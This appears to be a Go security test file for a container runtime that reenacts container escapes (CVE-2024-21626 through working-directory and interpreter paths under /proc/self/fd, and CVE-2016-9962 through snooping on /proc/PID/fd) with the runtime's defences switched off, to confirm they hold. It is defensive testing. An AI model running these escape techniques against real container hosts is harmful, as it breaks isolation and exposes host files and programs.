package attacks

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"

	"github.com/opencontainers/runtime-spec/specs-go"
	"github.com/stretchr/testify/require"
)

// workOutside: CVE-2024-21626, by process.cwd.
//
// A descriptor is a way into a directory that no pivot_root closes. Runc had one of the host's cgroups open at the moment at which it entered
// the working directory, and config.json named /proc/self/fd/7 as that. The descriptor was closed afterwards, but the
// program already stood outside, and ../../.. led to the host's root. An image could do the same by a link in its WORKDIR.
//
// Here it is the caller's carelessness: it has directories open and lets the runtime inherit them. Two things stand in the way. Init
// inherits only what it is to have (namespace, close_range in program.exec), and a working directory of which the kernel
// says that it can't be reached from the root is refused (process.enter). With both taken out the attack succeeds.
func workOutside(a *arena) string {
	bundle, root := a.bundle("", nil)
	for fd := 3; fd < 16; fd++ {
		dir := fmt.Sprintf("/proc/self/fd/%d", fd)
		link := fmt.Sprintf("/inviting%d", fd)
		require.NoError(a.t, os.Symlink(dir, root+link))
		for _, cwd := range []string{dir, link} {
			a.edit(bundle, func(s *specs.Spec) { s.Process.Cwd, s.Process.Args = cwd, []string{"cat", "secret", "/dev/null"} })
			r := a.leaky("run", "--bundle", bundle, "victim").Run(a.t)
			if strings.Contains(r.Stdout, secret) {
				return "with the working directory " + cwd + ": " + r.Stdout
			}
			require.NotZero(a.t, r.Code, r)
		}
	}
	return a.stolen()
}

// execOutside: CVE-2024-21626, by `exec --cwd`. What the container sees is the same; but init was born inside, by setns.
func execOutside(a *arena) string {
	bundle, _ := a.bundle("exec sleep 1000", nil)
	id := a.inside(bundle)
	for fd := 3; fd < 16; fd++ {
		r := a.leaky("exec", "--cwd", fmt.Sprintf("/proc/self/fd/%d", fd), id, "cat", "secret").Run(a.t)
		if strings.Contains(r.Stdout, secret) {
			return fmt.Sprintf("by descriptor %d: %s", fd, r.Stdout)
		}
		require.NotZero(a.t, r.Code, r)
	}
	return a.stolen()
}

// runOutside: CVE-2024-21626, by the program. execve looks its file up before it closes what is to be closed on exec, so
// /proc/self/fd/7/bin/sh is the host's shell if 7 is a directory of the host's; and so is an interpreter behind "#!". Hence all is closed
// for good before (process.closeFiles), and what init doesn't get it can't lose (as above). With both taken out the attack succeeds.
func runOutside(a *arena) string {
	busybox, err := exec.LookPath("busybox")
	require.NoError(a.t, err)
	copyFile(a.t, busybox, filepath.Join(a.outside, "busybox"))
	bundle, root := a.bundle("exec sleep 1000", nil)
	id := a.inside(bundle)
	for fd := 3; fd < 16; fd++ {
		script := fmt.Sprintf("script%d", fd)
		interpreter := fmt.Sprintf("/proc/self/fd/%d/busybox", fd)
		require.NoError(a.t, os.WriteFile(filepath.Join(root, script), []byte("#!"+interpreter+" echo\n"), 0o755))
		for _, args := range [][]string{{interpreter, "echo", "outside"}, {"/" + script, "outside"}} {
			r := a.leaky(append([]string{"exec", id}, args...)...).Run(a.t)
			if strings.Contains(r.Stdout, "outside") {
				return "the host's program ran: " + strings.Join(args, " ")
			}
			require.Equal(a.t, 255, r.Code, r)
		}
	}
	return ""
}

// lookIntoExec: CVE-2016-9962.
//
// A process that enters a container is visible there from the first moment, when it still has descriptors of the host's. If it has lowered
// its rights already, those in the container are as good as it, and may look into /proc/PID/fd and take what they find.
// So init makes itself unreadable as the first thing that it does (process, "hide from debuggers"), until execve. Take that step out,
// and the attacker finds the socket to the runtime, or more.
func lookIntoExec(a *arena) string {
	bundle, _ := a.bundle("", attacker("look"))
	id := a.inside(bundle)
	for i := 0; i < 3*a.rounds; i++ {
		ok(a.t, a.runtime.Run(a.t, "exec", id, "true"))
	}
	out, err := os.ReadFile(filepath.Join(bundle, "stdout"))
	require.NoError(a.t, err)
	require.Contains(a.t, string(out), "seen\n", "the attacker has not even seen the process")
	_, found, _ := strings.Cut(string(out), "found ")
	return found
}

// looker is in the container. It looks for processes that are init yet, and for what they have open.
func looker() {
	seen := false
	for self := fmt.Sprint(os.Getpid()); ; {
		names, _ := os.ReadDir("/proc")
		for _, n := range names {
			dir := "/proc/" + n.Name()
			if n.Name()[0] < '0' || n.Name()[0] > '9' || n.Name() == self || !isInit(dir) {
				continue
			}
			if !seen {
				seen = true
				fmt.Println("seen")
			}
			for _, name := range []string{"fd/3", "fd/4", "fd/5", "fd/6", "fd/7", "fd/8", "cwd", "root"} {
				if target, err := os.Readlink(dir + "/" + name); err == nil && isInit(dir) {
					fmt.Printf("found %s/%s -> %s\n", dir, name, target)
				}
			}
		}
	}
}

// isInit says whether a process has the title of init, and so has not become its program.
func isInit(dir string) bool {
	title, err := os.ReadFile(dir + "/cmdline")
	return err == nil && strings.Contains(string(title), "init of")
}
